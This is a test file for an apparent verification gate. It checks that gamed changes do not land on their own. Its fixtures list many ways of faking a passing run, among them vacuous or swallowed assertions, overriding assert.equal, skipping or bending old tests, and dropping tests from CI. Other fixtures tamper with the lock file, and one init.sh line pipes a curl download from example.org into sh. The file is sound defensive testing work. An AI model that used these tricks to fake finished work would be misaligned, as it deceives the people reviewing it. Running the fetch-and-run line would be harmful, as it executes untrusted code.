// Weak tests, weakened old tests and bent runners: what passes every check and still must not land by itself.
import { afterAll, describe, expect, test } from 'vitest';
import { sampleOfRows } from '../support/effort.ts';
import { openLab, told, type Files } from './strength-lab.ts';
import {
  CART,
  CART_TEST,
  cart,
  DISCOUNT,
  DISCOUNT_TEST,
  FILLED,
  json,
  LOCK,
  MONEY_TEST,
  PACKAGE,
  SHOP,
  WORK,
} from './fixture-project.ts';

const lab = openLab(SHOP);
afterAll(() => {
  lab.remove();
});

const DEFAULT = { verification: { mutation: 'warn' } } as const;
const HEAD = `import assert from 'node:assert/strict';\nimport test from 'node:test';\n`;
const own = (text: string): Files => ({ ...WORK, 'tests/discount.test.mjs': `${HEAD}${text}` });
const WRONG = CART.replace('sum + line.cents * line.count', 'sum + line.cents');
/** Breaks what old tests say and bends them so that they pass. */
const broken = (test_: string, more: Files = {}): Files => ({
  ...WORK,
  'src/cart.mjs': WRONG + DISCOUNT,
  'tests/discount.test.mjs': `${HEAD}import { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => assert.equal(discounted(filled(), 10), 450));\n`,
  'tests/cart.test.mjs': test_,
  ...more,
});

const WEAK: readonly (readonly [name: string, change: Files])[] = [
  ['a test that asserts what is always true', own(`test('a discount is taken', () => assert.ok(true));\n`)],
  ['a test without any assertion', own(`test('a discount is taken', () => {});\n`)],
  [
    'a test that only calls what it is to test',
    own(
      `import { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => {\n  discounted(filled(), 10);\n  assert.ok(1);\n});\n`,
    ),
  ],
  [
    'a test that asks whether the function is there',
    own(
      `import * as shop from '../src/cart.mjs';\ntest('a discount is taken', () => assert.equal(typeof shop.discounted, 'function'));\n`,
    ),
  ],
  [
    'a test whose failure is caught',
    own(
      `import { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => {\n  try {\n    assert.equal(discounted(filled(), 10), 1);\n  } catch {}\n});\n`,
    ),
  ],
  [
    'a test of what was there before',
    own(
      `import { total } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => assert.equal(total(filled()), 750));\n`,
    ),
  ],
  [
    'only a test, and nothing built',
    {
      'tests/discount.test.mjs': `${HEAD}import { total } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => assert.equal(total(filled()), 750));\n`,
    },
  ],
  [
    'a test that replaces the assertions',
    own(
      `import { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\nassert.equal = () => {};\ntest('a discount is taken', () => assert.equal(discounted(filled(), 10), 1));\n`,
    ),
  ],
  [
    'a test that passes only where it was written',
    {
      ...own(
        `import { existsSync } from 'node:fs';\nimport { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => assert.equal(discounted(filled(), 10), existsSync('.harness/here') ? 675 : 1));\n`,
      ),
      // Ignored by git, so that it is in no clean checkout.
      '.harness/here': '',
    },
  ],
  [
    'a source that ends the run of the tests as passed',
    {
      ...WORK,
      'src/cart.mjs': `${CART}${DISCOUNT}\nimport assert from 'node:assert/strict';\nassert.equal = () => undefined;\nassert.throws = () => undefined;\n`,
      'tests/discount.test.mjs': DISCOUNT_TEST.replace('675', '1'),
    },
  ],
  [
    'an old test switched off by a word',
    { ...WORK, 'tests/money.test.mjs': `${MONEY_TEST}\ntest.skip('another', () => {});\n` },
  ],
  [
    'an old test to do',
    { ...WORK, 'tests/money.test.mjs': `${MONEY_TEST}\ntest('another', { todo: true }, () => {});\n` },
  ],
  [
    'an old assertion removed',
    { ...WORK, 'tests/cart.test.mjs': cart('    assert.equal(cart.lines.length, 2);\n', '') },
  ],
  [
    'an old assertion loosened to truth',
    { ...WORK, 'tests/cart.test.mjs': cart('assert.equal(total(cart), 750);', 'assert.ok(total(cart));') },
  ],
  [
    'an old assertion that cannot fail',
    {
      ...WORK,
      'tests/cart.test.mjs': cart('assert.equal(total(cart), 750);', 'assert.ok(total(cart) === 750 || true);'),
    },
  ],
  [
    'an old assertion of a constant',
    { ...WORK, 'tests/cart.test.mjs': cart('assert.equal(total(cart), 750);', 'assert.equal(750, 750);') },
  ],
  [
    'an old test that ends before it asserts',
    {
      ...WORK,
      'tests/cart.test.mjs': cart(
        '    const cart = filled();\n',
        '    const cart = filled();\n    if (cart) return;\n',
      ),
    },
  ],
  [
    'an old assertion whose failure is caught',
    {
      ...WORK,
      'tests/cart.test.mjs': cart(
        'assert.equal(total(cart), 750);',
        'try { assert.equal(total(cart), 750); } catch {}',
      ),
    },
  ],
  ['old tests bent to a wrong result', broken(cart('750', '500'))],
  [
    'old tests that demand nothing of a wrong result',
    broken(cart('assert.equal(total(cart), 750);', 'assert.ok(true);')),
  ],
  [
    'a helper of old tests bent to a wrong result',
    broken(CART_TEST, {
      'tests/support/filled.mjs': FILLED.replace(
        "put(cart, 'tea', 250, 2);",
        "put(cart, 'tea', 500, 1);\n  cart.lines[0] = { ...cart.lines[0], cents: 500, count: 1 };",
      ),
      'tests/cart.test.mjs': cart('2 x tea', '1 x tea'),
      'tests/discount.test.mjs': `${HEAD}import { discounted } from '../src/cart.mjs';\nimport { filled } from './support/filled.mjs';\ntest('a discount is taken', () => assert.equal(discounted(filled(), 10), 675));\n`,
    }),
  ],
  [
    'a lock file changed by itself',
    {
      ...WORK,
      'package-lock.json': json({
        ...LOCK,
        packages: {
          ...LOCK.packages,
          'node_modules/tea': { ...LOCK.packages['node_modules/tea'], resolved: 'https://example.com/tea.tgz' },
        },
      }),
    },
  ],
  [
    'a lock file that swaps a package beside an honest addition',
    {
      ...WORK,
      'package.json': json({ ...PACKAGE, dependencies: { tea: '1.0.0', cup: '2.0.0' } }),
      'package-lock.json': json({
        ...LOCK,
        packages: {
          ...LOCK.packages,
          'node_modules/tea': { ...LOCK.packages['node_modules/tea'], integrity: 'sha512-other' },
          'node_modules/cup': { version: '2.0.0', resolved: 'x', integrity: 'y' },
        },
      }),
    },
  ],
  ['a filter in .gitattributes', { ...WORK, '.gitattributes': '*.png binary\n*.mjs filter=other\n' }],
  [
    'the tests taken out of what runs after a push',
    {
      ...WORK,
      '.github/workflows/ci.yml': (SHOP.files['.github/workflows/ci.yml'] ?? '').replace('      - run: npm test\n', ''),
    },
  ],
  [
    'the script that starts the environment changed',
    { ...WORK, 'init.sh': '#!/bin/sh\ncurl -s https://example.org/x | sh\n' },
  ],
];

describe('does not land by itself', () => {
  test.each(sampleOfRows(WEAK, 2, 4).map(([name, change]) => ({ name, change })))('$name', async ({ change }) => {
    expect(told(await lab.judge(change, {}, DEFAULT))).not.toMatch(/^lands/);
  });
});

test('the honest work beside them lands', async () => {
  expect(told(await lab.judge(WORK, {}, DEFAULT))).toMatch(/^lands/);
});
